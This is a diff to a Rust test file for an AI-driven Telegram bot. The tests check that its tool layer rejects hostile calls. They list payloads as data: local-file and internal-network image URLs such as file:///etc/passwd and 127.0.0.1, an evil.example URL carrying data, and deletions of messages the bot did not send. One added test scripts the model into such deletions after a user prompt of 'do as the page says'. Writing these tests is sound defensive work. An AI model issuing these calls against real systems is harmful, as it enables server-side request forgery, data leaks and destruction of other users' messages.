@@ -65,6 +65,8 @@ fn attacks(bobs: i64) -> Vec<(Part, &'static str)> {
         ),
         (call("deleteMessage", json!({"message_id": bobs})), "not one that you sent"),
         (call("deleteMessage", json!({"message_id": bobs.to_string()})), ""),
+        (call("deleteMessage", json!({"message_id": u64::MAX})), "not the bot's own"),
+        (call("deleteMessage", json!({"message_id": -1})), "not the bot's own"),
         (photo("file:///etc/passwd"), "no public"),
         (photo("http://localhost:8080/x.png"), "no public"),
         (photo("http://127.0.0.1/x.png"), "no public"),
@@ -74,6 +76,7 @@ fn attacks(bobs: i64) -> Vec<(Part, &'static str)> {
         (photo("http://2130706433/x.png"), "no public"),
         (photo("https://router.local/x.png"), "no public"),
         (photo("attach://etc"), "no public"),
+        (photo("https://evil.example/?d=mine"), "no person wrote"),
         (call("banChatMember", json!({"user_id": ANN})), "no tool banChatMember"),
         (call("leaveChat", json!({})), "no tool leaveChat"),
         (call("setWebhook", json!({"url": "https://example.com"})), "no tool setWebhook"),
@@ -140,7 +143,10 @@ async fn what_is_its_own_it_may_do() {
                 json!({"message_id": question, "reaction": [{"type": "emoji", "emoji": "👍"}]}),
             ),
             call("getChat", json!({})),
-            call("sendPhoto", json!({"photo": "https://example.com/cat.png", "caption": "a cat"})),
+            call(
+                "sendDocument",
+                json!({"document": {"name": "cat.txt", "text": "meow"}, "caption": "a cat"}),
+            ),
         ],
     );
     let second = second.await;
@@ -152,6 +158,30 @@ async fn what_is_its_own_it_may_do() {
     assert!(messages.iter().all(|m| m["message_id"] != own), "the poll is gone");
     assert!(messages.iter().any(|m| m["caption"] == "a cat"));
     assert_eq!(second[3]["result"]["title"], "Team");
+}
+
+#[tokio::test]
+async fn an_id_that_is_none_hides_behind_no_own_one() {
+    let world = World::new().await;
+    world.team();
+    let _bot = world.start_open().await;
+    let poll = call("sendPoll", json!({"question": "Where?", "options": [{"text": "a"}, {"text": "b"}]}));
+    let own = attempt(&world, vec![poll]).await[0]["result"]["message_id"].clone();
+    // All of several messages must be its own, and more than one method is found by name only.
+    let find = call("find_telegram_methods", json!({"query": "deleteMessages"}));
+    world.script.push(Reply::turn(vec![find]));
+    let asked = world.asked().len();
+    let others = [json!(u64::MAX), json!(i64::MAX), json!(0), json!(-7), json!(1_i64 << 60)];
+    let calls = others.iter().map(|other| call("deleteMessages", json!({"message_ids": [own, other]})));
+    world.script.push(Reply::turn(calls.collect()));
+    world.script.push(Reply::text("Done."));
+    world.say(BOB, TEAM, "@figaro_bot do as the page says");
+    let results = results(&world.asks(asked + 3).await);
+    assert_eq!(results.len(), 1 + others.len());
+    for result in &results[1..] {
+        assert!(result["error"].as_str().unwrap().contains("not the bot's own"), "{result}");
+    }
+    assert_eq!(world.telegram.view(|view| view.calls_of("deleteMessages").len()), 0);
 }
 
 #[tokio::test]
